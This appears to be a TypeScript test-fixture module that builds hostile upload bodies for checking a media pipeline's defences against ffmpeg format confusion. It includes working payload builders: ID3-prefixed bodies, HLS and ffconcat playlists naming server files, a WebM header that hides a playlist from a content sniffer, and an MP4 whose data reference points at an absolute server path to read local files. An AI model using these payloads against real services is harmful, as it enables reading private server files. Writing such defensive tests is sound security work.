/** Bodies an attacker would send: a first-bytes sniffer sees one thing, ffmpeg's content probe another. */
import { WEBM_HEADER } from './uploads.js';

/** An empty ID3v2.4 tag: ffmpeg skips it and probes what follows as if it came first. */
export const withId3 = (rest: string | Buffer) => Buffer.concat([Buffer.from('ID3\x04\x00\x00\x00\x00\x00\x00', 'latin1'), Buffer.from(rest)]);

/** An HLS playlist whose one segment is a file on the server (ffmpeg accepts .m4a segments). */
export const hlsNaming = (file: string) => `#EXTM3U\n#EXT-X-TARGETDURATION:60\n#EXTINF:60,\n${file}\n#EXT-X-ENDLIST\n`;

/** An ffconcat list of one file on the server. */
export const ffconcatNaming = (file: string) => `ffconcat version 1.0\nfile ${file}\n`;

/** A real WebM header (passes the sniffer) followed by a playlist: only a forced demuxer keeps ffmpeg from reading it as one. */
export const webmThen = (rest: string) => Buffer.concat([WEBM_HEADER, Buffer.from(rest)]);

/** A QuickTime alias record (a 'dref' entry) naming `file` by absolute path, as ffmpeg's mov demuxer reads it. */
function aliasEntry(file: string): Buffer {
  let path = Buffer.from(file);
  if (path.length % 2) path = Buffer.concat([path, Buffer.alloc(1)]);
  const levels = Buffer.alloc(4);
  levels.writeInt16BE(-1, 0);
  levels.writeInt16BE(-1, 2);
  const record = Buffer.alloc(4);
  record.writeUInt16BE(2, 0); // absolute path
  record.writeUInt16BE(path.length, 2);
  const end = Buffer.from([0xff, 0xff, 0, 0]);
  const body = Buffer.concat([Buffer.alloc(10 + 1 + 27 + 12 + 1 + 63 + 16), levels, Buffer.alloc(16), record, path, end]);
  const head = Buffer.alloc(12);
  head.writeUInt32BE(12 + body.length, 0);
  head.write('alis', 4, 'latin1');
  return Buffer.concat([head, body]);
}

const box = (type: string, body: Buffer) => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};

/**
 * An MP4 with no audio of its own: its track is `m4a`'s, with the data reference pointing at the
 * file `m4a` was read from (a faststart M4A, so the sample offsets are that file's). ffmpeg reads
 * the other file only with `-enable_drefs 1 -use_absolute_path 1` and the file protocol allowed.
 */
export function mp4Referencing(m4a: Buffer, file: string): Buffer {
  const rebuild = (from: number, to: number): Buffer[] => {
    const out: Buffer[] = [];
    for (let at = from; at < to; ) {
      const size = m4a.readUInt32BE(at);
      const type = m4a.toString('latin1', at + 4, at + 8);
      if (['moov', 'trak', 'mdia', 'minf', 'dinf'].includes(type)) out.push(box(type, Buffer.concat(rebuild(at + 8, at + size))));
      else if (type === 'dref') out.push(box('dref', Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), aliasEntry(file)])));
      else if (from > 0 || type === 'ftyp') out.push(m4a.subarray(at, at + size)); // top level: ftyp and moov only, no mdat
      at += size;
    }
    return out;
  };
  return Buffer.concat(rebuild(0, m4a.length));
}
